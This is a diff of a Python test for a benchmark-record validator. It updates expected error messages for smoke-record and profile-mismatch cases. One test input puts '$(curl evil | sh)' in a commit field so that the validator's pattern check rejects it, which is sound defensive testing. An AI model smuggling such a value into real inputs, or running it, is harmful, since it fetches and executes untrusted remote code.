@@ -80,9 +80,9 @@ def test_what_a_line_need_not_say_is_nothing_by_default() -> None:
         (json.dumps(START | {"start_seconds": 1e9}), "start_seconds: Input should be less"),
         (json.dumps(START | {"commit": "$(curl evil | sh)"}), "commit: String should match pattern"),
         (json.dumps(START | {"ceilings": {"flops_per_second": 0}}), "ceilings.flops_per_second: Input should be great"),
-        (json.dumps(START | {"smoke": True}), "is a smoke record among real ones"),
+        (json.dumps(START | {"smoke": True}), "is a smoke record of the profile torch-1, and does not belong here"),
         (json.dumps(START | {"profile": START["profile"] | {"name": "gpu"}}),
-         "is a record of the profile gpu among those of torch-1"),
+         "is a real record of the profile gpu, and does not belong here"),
         (json.dumps(START | {"backend": None}) + "\n" + json.dumps(RESULT), "backend is missing, and a case was meas"),
     ],
 )  # fmt: skip
